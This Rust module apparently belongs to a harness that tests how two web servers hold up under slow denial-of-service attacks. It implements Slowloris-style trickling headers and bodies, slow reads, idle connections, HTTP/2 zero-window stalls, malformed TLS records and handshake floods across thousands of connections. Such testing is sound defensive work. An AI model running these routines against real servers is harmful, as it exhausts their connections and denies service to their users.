//! Attacks that hold connections and do as little as they can: heads and bodies that trickle, answers that are not
//! taken, silence.

use std::rc::Rc;
use std::time::Duration;

use anyhow::ensure;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::strike::wire::Tls;
use super::strike::{Given, Strike, crowd};
use crate::compare::files::Asset;

/// Addresses that the connections come from.
const SOURCES: usize = 50;

/// Connections, more than either server has places for.
const CONNECTIONS: usize = 5000;

/// From one byte to the next.
const PACE: Duration = Duration::from_millis(1000);

/// A receive buffer as small as the kernel allows.
const TINY: u32 = 2048;

/// All connections would not be there at once: the nth waits a little.
async fn stagger(n: usize) {
    sleep(Duration::from_micros(300) * u32::try_from(n).unwrap_or_default()).await;
}

/// Sends `drop` again and again, until the server ends the connection.
async fn trickle(strike: &Strike, tls: &mut Tls, drop: &[u8]) -> Given {
    let mut room = [0; 1024];
    loop {
        strike.send(tls, drop).await?;
        tokio::select! {
            () = sleep(PACE) => {}
            read = tls.read(&mut room) => {
                let read = read?;
                ensure!(read > 0, "closed by the server");
                let status = String::from_utf8_lossy(room.get(9..12).unwrap_or_default()).into_owned();
                strike.refused(|| format!("status {status}"));
            }
        }
    }
}

/// A head that never ends.
pub(super) async fn head(strike: Rc<Strike>) {
    crowd(&strike, strike.some(CONNECTIONS), |strike, n| async move {
        stagger(n).await;
        let mut tls = strike.tls(strike.source(n % SOURCES), b"http/1.1", None).await?;
        let begin = format!("GET /pagina.html HTTP/1.1\r\nHost: {}\r\n", strike.authority);
        strike.send(&mut tls, begin.as_bytes()).await?;
        trickle(&strike, &mut tls, b"X-a: b\r\n").await
    })
    .await;
}

/// A body that never ends.
pub(super) async fn body(strike: Rc<Strike>) {
    crowd(&strike, strike.some(CONNECTIONS), |strike, n| async move {
        stagger(n).await;
        let mut tls = strike.tls(strike.source(n % SOURCES), b"http/1.1", None).await?;
        let begin =
            format!("POST /pagina.html HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", strike.authority);
        strike.asked(1);
        strike.send(&mut tls, begin.as_bytes()).await?;
        trickle(&strike, &mut tls, b"x").await
    })
    .await;
}

/// The largest file, a few bytes a second.
pub(super) async fn read(strike: Rc<Strike>) {
    crowd(&strike, strike.some(2000), |strike, n| async move {
        stagger(n).await;
        let mut tls = strike.tls(strike.source(n % SOURCES), b"http/1.1", Some(TINY)).await?;
        let ask = format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", Asset::Archive.path(), strike.authority);
        strike.asked(1);
        strike.send(&mut tls, ask.as_bytes()).await?;
        sip(&strike, tls.get_mut().0).await
    })
    .await;
}

/// Takes a few bytes of whatever comes, and a few more later.
async fn sip(strike: &Strike, tcp: &mut TcpStream) -> Given {
    let mut room = [0; 16];
    loop {
        let read = tcp.read(&mut room).await?;
        ensure!(read > 0, "closed by the server");
        strike.moved(0, read);
        sleep(PACE).await;
    }
}

/// Nothing at all.
pub(super) async fn idle(strike: Rc<Strike>) {
    crowd(&strike, strike.some(CONNECTIONS), |strike, n| async move {
        stagger(n).await;
        let mut tcp = strike.tcp(strike.source(n % SOURCES), None).await?;
        let read = tcp.read(&mut [0; 16]).await?;
        ensure!(read > 0, "closed by the server");
        Ok(())
    })
    .await;
}

/// Pages and files over HTTP/2 whose windows stay closed.
pub(super) async fn zero_window(strike: Rc<Strike>) {
    use super::strike::wire::get;
    use crate::compare::http2::frames;

    crowd(&strike, strike.some(1000), |strike, n| async move {
        stagger(n).await;
        let mut tls = strike.h2(strike.source(n % SOURCES), &[(frames::INITIAL_WINDOW_SIZE, 0)], None).await?;
        let mut out = Vec::new();
        for stream in (1..200).step_by(2) {
            let path = if stream % 4 == 1 { Asset::Archive.path() } else { Asset::Large.path() };
            let flags = frames::END_HEADERS | frames::END_STREAM;
            frames::push(&mut out, frames::HEADERS, flags, stream, &get(&strike.authority, path, &[]));
        }
        strike.asked(100);
        strike.send(&mut tls, &out).await?;
        let (mut reader, mut room) = (frames::Frames::default(), [0; 16 << 10]);
        loop {
            tokio::select! {
                read = strike.read(&mut tls, &mut room) => {
                    strike.heard(&mut reader, room.get(..read?).unwrap_or_default())?;
                }
                // So that the connection is not idle.
                () = sleep(PACE) => {
                    let mut ping = Vec::new();
                    frames::push(&mut ping, frames::PING, 0, 0, &[0; 8]);
                    strike.send(&mut tls, &ping).await?;
                }
            }
        }
    })
    .await;
}

/// Bytes that are no TLS, or the beginning of it, from a few sources as fast as they go.
pub(super) async fn garbage(strike: Rc<Strike>) {
    crowd(&strike, strike.some(64).max(8), |strike, n| async move {
        let mut tcp = strike.tcp(strike.source(n % 8), None).await?;
        let mut bytes = match strike.random() % 5 {
            // A record of a handshake with a ClientHello that says to be longer than it is.
            0 => vec![22, 3, 1, 1, 0, 1, 0, 0xff, 0xff, 3, 3],
            // A record that is too long.
            1 => vec![22, 3, 1, 0xff, 0xff],
            // An alert, content before the handshake, and another protocol.
            2 => vec![21, 3, 3, 0, 2, 1, 0],
            3 => vec![23, 3, 3, 0x10, 0],
            _ => b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec(),
        };
        bytes.extend((0..512).flat_map(|_| strike.random().to_le_bytes()));
        tcp.write_all(&bytes).await?;
        strike.moved(bytes.len(), 0);
        strike.asked(1);
        let mut room = [0; 256];
        while tcp.read(&mut room).await? > 0 {}
        strike.closed(|| "closed by the server".into());
        Ok(())
    })
    .await;
}

/// Whole handshakes, one after the other.
pub(super) async fn handshakes(strike: Rc<Strike>) {
    crowd(&strike, strike.some(32).max(8), |strike, n| async move {
        let tls = strike.tls(strike.source(n % 8), b"h2", None).await?;
        strike.asked(1);
        drop(tls);
        Ok(())
    })
    .await;
}
